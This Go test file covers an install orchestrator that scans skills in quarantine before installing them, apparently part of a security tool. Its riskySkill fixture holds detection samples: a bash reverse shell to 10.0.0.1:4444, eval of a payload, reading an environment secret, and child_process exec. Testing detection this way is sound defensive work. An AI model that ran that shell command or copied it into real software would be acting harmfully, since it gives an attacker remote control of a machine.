package install

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ppiankov/clawshield/internal/models"
	"github.com/ppiankov/clawshield/internal/policy"
	"github.com/ppiankov/clawshield/internal/runner"
	"github.com/ppiankov/clawshield/internal/scanner"
)

type fakeRunner struct {
	mu      sync.Mutex
	calls   []runner.RunConfig
	fail    map[string]bool
	onRun   func(cfg runner.RunConfig)
	lastDir string
}

func (f *fakeRunner) Run(ctx context.Context, cfg runner.RunConfig) runner.RunResult {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls = append(f.calls, cfg)
	if f.onRun != nil {
		f.onRun(cfg)
	}
	res := runner.RunResult{Step: cfg.Step, Binary: cfg.Binary, Args: cfg.Args, Success: true}
	if f.fail[cfg.Step] {
		res.Success = false
		res.Error = "exit status 1"
	}
	return res
}

func (f *fakeRunner) steps() []string {
	var s []string
	for _, c := range f.calls {
		s = append(s, c.Step)
	}
	return s
}

func writeSkill(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	}
	return dir
}

// riskySkill scores 32: CAUTION.
func riskySkill(t *testing.T) string {
	return writeSkill(t, map[string]string{
		"a.sh": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
		"b.js": "eval(payload)\n",
		"c.js": "const k = process.env.SECRET\n",
		"d.js": "require('child_process').exec(cmd)\n",
	})
}

func newOrchestrator(t *testing.T, r *fakeRunner) (*Orchestrator, string) {
	t.Helper()
	q := t.TempDir()
	return &Orchestrator{
		Scanner:       scanner.New(scanner.Config{}),
		Runner:        r,
		QuarantineDir: q,
		InstallCmd:    "clawhub install",
	}, q
}

func assertQuarantineEmpty(t *testing.T, q string) {
	t.Helper()
	entries, err := os.ReadDir(q)
	require.NoError(t, err)
	assert.Empty(t, entries, "quarantine should be removed")
}

func TestRunCleanLocalSkillInstalls(t *testing.T) {
	skill := writeSkill(t, map[string]string{"index.js": "module.exports = () => 42\n"})
	r := &fakeRunner{}
	o, q := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{})
	require.NoError(t, err)

	assert.True(t, out.Installed)
	assert.False(t, out.Blocked)
	assert.Equal(t, models.StatusClean, out.Result.Status)
	assert.Equal(t, models.StatusWarning, out.Threshold)
	assert.Equal(t, "clawhub install "+skill, out.InstallCmd)
	assert.Equal(t, []string{"install"}, r.steps())
	assert.Equal(t, []string{"install", skill}, r.calls[0].Args)
	assertQuarantineEmpty(t, q)
}

func TestRunBlockedSkillIsNotInstalled(t *testing.T) {
	skill := riskySkill(t)
	r := &fakeRunner{}
	o, q := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{Threshold: models.StatusCaution})
	require.NoError(t, err)

	assert.True(t, out.Blocked)
	assert.False(t, out.Installed)
	assert.Empty(t, r.calls)
	assert.NotNil(t, out.Report)
	assertQuarantineEmpty(t, q)
}

func TestRunForceInstallsBlockedSkill(t *testing.T) {
	skill := riskySkill(t)
	r := &fakeRunner{}
	o, _ := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{Threshold: models.StatusCaution, Force: true})
	require.NoError(t, err)

	assert.True(t, out.Blocked)
	assert.True(t, out.Forced)
	assert.True(t, out.Installed)
}

func TestRunDryRunDoesNotInstall(t *testing.T) {
	skill := writeSkill(t, map[string]string{"index.js": "1\n"})
	r := &fakeRunner{}
	o, q := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{DryRun: true})
	require.NoError(t, err)

	assert.False(t, out.Installed)
	assert.True(t, out.DryRun)
	assert.Empty(t, r.calls)
	assertQuarantineEmpty(t, q)
}

func TestRunRootWithoutForce(t *testing.T) {
	skill := writeSkill(t, map[string]string{"index.js": "1\n"})
	r := &fakeRunner{}
	o, q := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{Elevated: true})
	require.ErrorIs(t, err, ErrRootRequiresForce)
	assert.True(t, out.RootRefused)
	assert.Empty(t, r.calls)
	assertQuarantineEmpty(t, q)

	// A dry run still scans and reports.
	out, err = o.Run(context.Background(), skill, Options{Elevated: true, DryRun: true})
	require.NoError(t, err)
	assert.Equal(t, models.StatusCaution, out.Threshold)
	assert.NotNil(t, out.Result)
	assert.Empty(t, r.calls)
}

func TestRunRootWithForceInstalls(t *testing.T) {
	skill := writeSkill(t, map[string]string{"index.js": "1\n"})
	r := &fakeRunner{}
	o, _ := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{Elevated: true, Force: true})
	require.NoError(t, err)
	assert.True(t, out.Installed)
}

func TestRunPolicyBlocks(t *testing.T) {
	skill := writeSkill(t, map[string]string{"net.js": "fetch(url)\n"})
	r := &fakeRunner{}
	o, _ := newOrchestrator(t, r)

	pol := &policy.Policy{Rules: policy.Rules{ForbidRules: []string{"NETWORK_REQUEST"}}}
	out, err := o.Run(context.Background(), skill, Options{Policy: pol})
	require.NoError(t, err)

	assert.Equal(t, models.StatusClean, out.Result.Status)
	require.NotNil(t, out.Policy)
	assert.False(t, out.Policy.Pass)
	assert.True(t, out.Blocked)
	assert.Empty(t, r.calls)
}

func TestRunInstallFailure(t *testing.T) {
	skill := writeSkill(t, map[string]string{"index.js": "1\n"})
	r := &fakeRunner{fail: map[string]bool{"install": true}}
	o, _ := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), skill, Options{})
	var failed *FailedError
	require.True(t, errors.As(err, &failed))
	assert.Equal(t, "install", failed.Result.Step)
	assert.False(t, out.Installed)
	require.NotNil(t, out.Install)
}

func TestRunRegistryDownloadsIntoQuarantine(t *testing.T) {
	r := &fakeRunner{}
	r.onRun = func(cfg runner.RunConfig) {
		if cfg.Step != "download" {
			return
		}
		r.lastDir = cfg.Dir
		_ = os.WriteFile(filepath.Join(cfg.Dir, "skill.js"), []byte("eval(x)\n"), 0o644)
	}
	o, q := newOrchestrator(t, r)

	out, err := o.Run(context.Background(), "rememberall", Options{})
	require.NoError(t, err)

	assert.Equal(t, []string{"download", "install"}, r.steps())
	assert.Equal(t, []string{"download", "rememberall"}, r.calls[0].Args)
	assert.Equal(t, "clawhub", r.calls[0].Binary)
	assert.Equal(t, out.Quarantine, r.lastDir)
	assert.Equal(t, 1, out.Result.FilesScanned)
	assert.Len(t, out.Result.Findings, 1)
	assertQuarantineEmpty(t, q)
}

func TestRunRegistryDownloadFailure(t *testing.T) {
	r := &fakeRunner{fail: map[string]bool{"download": true}}
	o, q := newOrchestrator(t, r)

	_, err := o.Run(context.Background(), "rememberall", Options{})
	var failed *FailedError
	require.True(t, errors.As(err, &failed))
	assert.Equal(t, "download", failed.Result.Step)
	assert.Equal(t, []string{"download"}, r.steps())
	assertQuarantineEmpty(t, q)
}

func TestRunGitHub(t *testing.T) {
	archive := buildZip(t,
		zipEntry{name: "skill-main/"},
		zipEntry{name: "skill-main/index.js", body: "fetch(u)\n"},
	)
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/org/skill/archive/refs/heads/main.zip" {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write(archive)
	}))
	defer ts.Close()

	r := &fakeRunner{}
	o, _ := newOrchestrator(t, r)
	o.HTTPClient = ts.Client()
	o.GitHubURL = ts.URL

	out, err := o.Run(context.Background(), "github:org/skill", Options{DryRun: true})
	require.NoError(t, err)
	assert.Equal(t, RefGitHub, out.Ref.Kind)
	assert.Equal(t, 1, out.Result.FilesScanned)
	require.Len(t, out.Result.Findings, 1)
	assert.Equal(t, "index.js", out.Result.Findings[0].File)
}

func TestRunLocalMissing(t *testing.T) {
	r := &fakeRunner{}
	o, q := newOrchestrator(t, r)

	_, err := o.Run(context.Background(), filepath.Join(t.TempDir(), "nope"), Options{})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not found")
	assertQuarantineEmpty(t, q)
}

func TestRunInvalidRef(t *testing.T) {
	o, _ := newOrchestrator(t, &fakeRunner{})
	_, err := o.Run(context.Background(), "", Options{})
	require.Error(t, err)
}

func TestRunEmptyInstallCommand(t *testing.T) {
	o, _ := newOrchestrator(t, &fakeRunner{})
	o.InstallCmd = " "
	_, err := o.Run(context.Background(), "rememberall", Options{})
	require.Error(t, err)
}
